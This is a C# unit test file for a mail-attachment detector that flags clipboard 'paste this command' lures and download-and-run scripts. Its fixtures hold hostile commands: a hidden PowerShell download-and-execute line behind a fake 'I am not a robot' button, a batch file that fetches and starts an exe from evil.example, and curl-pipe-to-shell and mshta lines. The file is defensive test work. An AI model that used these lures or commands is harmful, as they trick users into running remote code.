using System.Text;
using Platform.Engine.Detectors.Behaviours;

namespace Platform.Engine.Tests.Detectors.Behaviours;

public sealed class ScriptBehaviourTests
{
    [Fact]
    public void A_command_put_on_the_clipboard_is_told_once()
    {
        var page = "<button onclick=\"navigator.clipboard.writeText('powershell -w h -c iex(irm https://evil.example/x.txt)')\">I am not a robot</button>";
        Assert.Equal(["behaviour-paste-command"], new TestMail { Files = [("verify.html", Encoding.UTF8.GetBytes(page))] }.SignsOf(new ScriptBehaviour()));
    }

    [Fact]
    public void Fetching_and_starting_are_told_as_one_deed()
    {
        var batch = "curl -o %temp%\\a.exe https://evil.example/a.exe\r\nstart %temp%\\a.exe\r\n";
        Assert.Equal(["behaviour-installs"], new TestMail { Files = [("run.bat", Encoding.ASCII.GetBytes(batch))] }.SignsOf(new ScriptBehaviour()));
    }

    [Theory]
    [InlineData("<h1>Setup</h1><p>Copy the line below.</p>", "curl -fsSL https://tool.example/i.sh | sh", 15)]
    [InlineData("<p>Open Terminal, paste and press Enter to prove that you are human.</p>", "curl -fsSL https://tool.example/i.sh | sh", 100)]
    [InlineData("<h1>Setup</h1>", "mshta https://evil.example/a", 100)]
    public void A_line_that_installs_says_less_in_a_manual(string words, string command, int percent)
    {
        var page = $"<html><body>{words}<button onclick=\"navigator.clipboard.writeText('{command}')\">Copy</button></body></html>";
        var input = new TestMail { Files = [("page.html", Encoding.UTF8.GetBytes(page))] }.ToInput();
        Assert.Equal([percent], new ScriptBehaviour().Inspect(input).Select(sign => sign.Percent));
    }
}
